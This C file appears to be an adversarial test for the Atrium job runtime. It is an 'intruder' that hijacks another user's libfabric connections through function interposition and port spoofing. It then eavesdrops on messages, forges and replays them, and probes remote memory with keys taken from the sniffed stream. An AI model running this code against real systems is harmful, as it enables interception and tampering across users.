// Somebody of another user id who has found the ports of a job of two nodes, and does what the network library lets him do.
// SPDX-License-Identifier: BSD-3-Clause
//
// usage: intruder UID SECONDS take_over|long|withdrawn|garbage     the job is UID's; it runs on this host, or in this namespace
//
// take_over: two processes stand between two endpoints. To each one says that it is the other, by its port, whereupon libfabric
//            replaces the true connection. What comes is read, sent back, and sent on: changed, as it was, and once again.
//            Each eight bytes of the stream are tried as the key of the other's memory.
// The others send one message of nobody's: longer than a receive buffer; announced, and withdrawn; of random bytes.
//
// It speaks through libfabric itself, whose calls of getsockname() and recv() find those below.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <netinet/in.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_rma.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { most_ports = 8, message_bytes = 1 << 16, slots = 64, raw_bytes = 1 << 16 };

static const uint64_t forged = 0xdeadbeefcafe;

// What one of the two has taken, for the other.
struct Taken {
  atomic_uint messages;
  unsigned bytes[slots];
  char message[slots][message_bytes];
};
static struct Taken* taken;  // of each

// ---- What libfabric is told of its own socket, and what is read beside it.

static uint16_t claimed_port;  // network order; 0: nothing is claimed
static char raw[raw_bytes];
static size_t raw_used;

int getsockname(int socket, struct sockaddr* address, socklen_t* bytes) {
  static int (*real)(int, struct sockaddr*, socklen_t*);
  if (!real) real = (int (*)(int, struct sockaddr*, socklen_t*))dlsym(RTLD_NEXT, "getsockname");
  const int status = real(socket, address, bytes);
  int listens = 0;
  socklen_t size = sizeof listens;
  getsockopt(socket, SOL_SOCKET, SO_ACCEPTCONN, &listens, &size);
  if (status == 0 && claimed_port != 0 && listens && address->sa_family == AF_INET)
    ((struct sockaddr_in*)address)->sin_port = claimed_port;
  return status;
}

static void keep(const void* data, ssize_t bytes) {
  if (bytes <= 0) return;
  const size_t some = (size_t)bytes < raw_bytes - raw_used ? (size_t)bytes : raw_bytes - raw_used;
  memcpy(raw + raw_used, data, some);
  raw_used += some;
}

ssize_t recv(int socket, void* data, size_t bytes, int flags) {
  static ssize_t (*real)(int, void*, size_t, int);
  if (!real) real = (ssize_t(*)(int, void*, size_t, int))dlsym(RTLD_NEXT, "recv");
  const ssize_t got = real(socket, data, bytes, flags);
  if ((flags & MSG_PEEK) == 0) keep(data, got);
  return got;
}

ssize_t recvmsg(int socket, struct msghdr* message, int flags) {
  static ssize_t (*real)(int, struct msghdr*, int);
  if (!real) real = (ssize_t(*)(int, struct msghdr*, int))dlsym(RTLD_NEXT, "recvmsg");
  const ssize_t got = real(socket, message, flags);
  for (ssize_t left = got, i = 0; left > 0; ++i) {
    const ssize_t some =
        left < (ssize_t)message->msg_iov[i].iov_len ? left : (ssize_t)message->msg_iov[i].iov_len;
    keep(message->msg_iov[i].iov_base, some);
    left -= some;
  }
  return got;
}

// ---- An endpoint of his own.

struct Door {
  struct fi_info* info;
  struct fid_fabric* fabric;
  struct fid_domain* domain;
  struct fid_cq* queue;
  struct fid_av* addresses;
  struct fid_ep* endpoint;
  fi_addr_t peer;
  char* buffers[16];
};

static void must(int status, const char* call) {
  if (status == 0) return;
  printf("intruder: %s: %s\n", call, fi_strerror(-status));
  exit(77);
}

static void post(struct Door* door, char* buffer) {
  fi_recv(door->endpoint, buffer, message_bytes, NULL, FI_ADDR_UNSPEC, buffer);
}

static void open_door(struct Door* door, const char* address, uint16_t port) {
  struct fi_info* hints = fi_allocinfo();
  const char* provider = getenv("ATRIUM_NET");  // the job's
  hints->fabric_attr->prov_name = strdup(provider ? provider : "tcp;ofi_rxm");
  hints->ep_attr->type = FI_EP_RDM;
  hints->caps = FI_MSG | FI_RMA;
  hints->mode = FI_CONTEXT | FI_CONTEXT2;
  hints->domain_attr->resource_mgmt = FI_RM_ENABLED;
  must(fi_getinfo(FI_VERSION(1, 15), address, NULL, FI_SOURCE, hints, &door->info), "fi_getinfo");
  must(fi_fabric(door->info->fabric_attr, &door->fabric, NULL), "fi_fabric");
  must(fi_domain(door->fabric, door->info, &door->domain, NULL), "fi_domain");
  struct fi_cq_attr queue = {.format = FI_CQ_FORMAT_DATA, .wait_obj = FI_WAIT_NONE};
  must(fi_cq_open(door->domain, &queue, &door->queue, NULL), "fi_cq_open");
  struct fi_av_attr addresses = {.type = door->info->domain_attr->av_type};
  must(fi_av_open(door->domain, &addresses, &door->addresses, NULL), "fi_av_open");
  must(fi_endpoint(door->domain, door->info, &door->endpoint, NULL), "fi_endpoint");
  must(fi_ep_bind(door->endpoint, &door->addresses->fid, 0), "fi_ep_bind");
  must(fi_ep_bind(door->endpoint, &door->queue->fid, FI_TRANSMIT | FI_RECV), "fi_ep_bind");
  must(fi_enable(door->endpoint), "fi_enable");
  struct sockaddr_in whom = {.sin_family = AF_INET, .sin_port = port};
  inet_pton(AF_INET, address, &whom.sin_addr);
  fi_av_insert(door->addresses, &whom, 1, &door->peer, 0, NULL);
  for (int i = 0; i < 16; ++i) post(door, door->buffers[i] = malloc(message_bytes));
}

// What comes goes to the other, whom it was for. How many operations of his own have ended well, or not.
static void look(struct Door* door, struct Taken* mine, int* ended, int* refused) {
  struct fi_cq_data_entry entry;
  const ssize_t got = fi_cq_read(door->queue, &entry, 1);
  if (got == -FI_EAVAIL) {
    struct fi_cq_err_entry error = {0};
    fi_cq_readerr(door->queue, &error, 0);
    ++*refused;
  }
  if (got != 1) return;
  if ((entry.flags & FI_RECV) == 0) {
    ++*ended;
    return;
  }
  const unsigned number = atomic_load(&mine->messages);
  if (number < slots) {
    mine->bytes[number] = (unsigned)entry.len;
    memcpy(mine->message[number], entry.op_context, entry.len);
    atomic_store(&mine->messages, number + 1);
  }
  post(door, entry.op_context);
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static void say(struct Door* door, struct Taken* mine, const void* data, size_t bytes) {
  int ended = 0, refused = 0;
  const double until = now() + 1;
  struct fi_context2* context = malloc(sizeof *context);
  while (fi_send(door->endpoint, data, bytes, NULL, door->peer, context) == -FI_EAGAIN && now() < until)
    look(door, mine, &ended, &refused);
  while (ended + refused == 0 && now() < until) look(door, mine, &ended, &refused);
}

// Whether eight bytes of what was read are the key to his memory.
static int opens(struct Door* door, struct Taken* mine, uint64_t key) {
  static char memory[4096];
  static struct fi_context2 contexts[1 << 14];
  static size_t used;
  if (used == sizeof contexts / sizeof *contexts) return 0;
  struct fi_context2* context = &contexts[used++];
  int ended = 0, refused = 0;
  const double until = now() + 0.2;
  while (fi_read(door->endpoint, memory, 64, NULL, door->peer, 0, key, context) == -FI_EAGAIN &&
         now() < until)
    look(door, mine, &ended, &refused);
  while (ended + refused == 0 && now() < until) look(door, mine, &ended, &refused);
  return ended != 0;
}

static int contains(const char* data, size_t bytes, const char* what) {
  return memmem(data, bytes, what, strlen(what)) != NULL;
}

// To the endpoint at `port` he is the one at `claimed`.
static void stand_between(const char* address, uint16_t port, uint16_t claimed, struct Taken* mine,
                          struct Taken* others, double seconds) {
  struct Door door = {0};
  claimed_port = claimed;
  open_door(&door, address, port);
  const double until = now() + seconds;
  unsigned passed_on = 0, told = 0, returned = 0;
  size_t tried = 0;
  double said = 0;
  int ended = 0, refused = 0;
  while (now() < until) {
    if (now() - said > 0.5) {  // whose connection is it? His
      say(&door, mine, "who goes there", 14);
      said = now();
    }
    look(&door, mine, &ended, &refused);
    const unsigned has = atomic_load(&mine->messages);
    for (; told < has; ++told) {
      printf("intruder: took a message of %u bytes%s\n", mine->bytes[told],
             contains(mine->message[told], mine->bytes[told], "confidential")
                 ? ", and read what is confidential"
                 : "");
      fflush(stdout);
    }
    for (; passed_on < atomic_load(&others->messages); ++passed_on) {
      char changed[message_bytes];
      const unsigned bytes = others->bytes[passed_on];
      memcpy(changed, others->message[passed_on], bytes);
      if (bytes >= 56) memcpy(changed + 48, &forged, 8);  // the data of a message's first put
      say(&door, mine, changed, bytes);
      usleep(200000);  // if that was believed it is seen
      for (int i = 0; i < 2; ++i) say(&door, mine, others->message[passed_on], bytes);
    }
    for (; now() > until - seconds / 2 && returned < has; ++returned)
      say(&door, mine, mine->message[returned], mine->bytes[returned]);
    for (; tried + 8 <= raw_used && tried < 2048 && now() < until; ++tried) {
      uint64_t key;
      memcpy(&key, raw + tried, 8);
      if (key == 0 || !opens(&door, mine, key)) continue;
      printf("intruder: read memory by a key from the stream\n");
      fflush(stdout);
    }
  }
  if (contains(raw, raw_used, "confidential")) printf("intruder: the stream has what is confidential\n");
  fflush(stdout);
  _exit(0);
}

static void send_one(const char* address, uint16_t port, const char* what) {
  struct Door door = {0};
  const size_t bytes = strcmp(what, "long") == 0        ? 600 << 10
                       : strcmp(what, "withdrawn") == 0 ? 100 << 10
                                                        : 200;
  char* message = malloc(bytes);
  for (size_t i = 0; i < bytes; ++i) message[i] = (char)rand();
  open_door(&door, address, port);
  if (strcmp(what, "withdrawn") != 0) {
    say(&door, taken, message, bytes);
  } else {
    const double until = now() + 1;
    int ended = 0, refused = 0;
    while (fi_send(door.endpoint, message, bytes, NULL, door.peer, malloc(sizeof(struct fi_context2))) ==
               -FI_EAGAIN &&
           now() < until)
      look(&door, taken, &ended, &refused);
    usleep(20000);
  }
  printf("intruder: sent a message, %s\n", what);
  fflush(stdout);
  _exit(0);
}

// Ports at which the user listens; as /proc/net/tcp has them, for everybody to read.
static int ports_of(unsigned uid, uint16_t* ports, char* address) {
  FILE* table = fopen("/proc/net/tcp", "r");
  char line[512];
  int count = 0;
  while (table && fgets(line, sizeof line, table)) {
    unsigned local, port, state, owner;
    if (sscanf(line, " %*u: %8X:%4X %*8X:%*4X %2X %*s %*s %*s %u", &local, &port, &state, &owner) != 4)
      continue;
    if (state != 10 || owner != uid || local == 0 || count == most_ports) continue;
    struct in_addr number = {local};
    inet_ntop(AF_INET, &number, address, INET_ADDRSTRLEN);
    ports[count++] = htons((uint16_t)port);
  }
  if (table) fclose(table);
  return count;
}

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  const unsigned uid = (unsigned)atoi(argv[1]);
  const double seconds = atof(argv[2]);
  uint16_t ports[most_ports];
  char address[INET_ADDRSTRLEN] = "127.0.0.1";
  for (int naps = 0; naps < 200 && ports_of(uid, ports, address) < 2; ++naps) usleep(50000);
  if (ports_of(uid, ports, address) < 2) {
    printf("intruder: found no job\n");
    return 1;
  }
  // As Atrium has them (engine/fabric_library.cpp): another size of buffers is refused.
  static const char* const sizes[][2] = {{"FI_OFI_RXM_BUFFER_SIZE", "9216"},
                                         {"FI_OFI_RXM_TX_SIZE", "128"},
                                         {"FI_OFI_RXM_RX_SIZE", "128"},
                                         {"FI_OFI_RXM_MSG_TX_SIZE", "64"},
                                         {"FI_OFI_RXM_MSG_RX_SIZE", "64"}};
  for (size_t i = 0; i < sizeof sizes / sizeof *sizes; ++i) setenv(sizes[i][0], sizes[i][1], 1);
  taken = mmap(NULL, 2 * sizeof *taken, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  usleep(500000);  // they have begun to talk
  for (int side = 0; side < 2; ++side) {
    if (fork() != 0) continue;
    srand((unsigned)side);
    if (strcmp(argv[3], "take_over") == 0)
      stand_between(address, ports[side], ports[1 - side], &taken[side], &taken[1 - side], seconds);
    send_one(address, ports[side], argv[3]);
  }
  int status = 0;
  while (wait(&status) > 0) continue;
  return WEXITSTATUS(status);
}
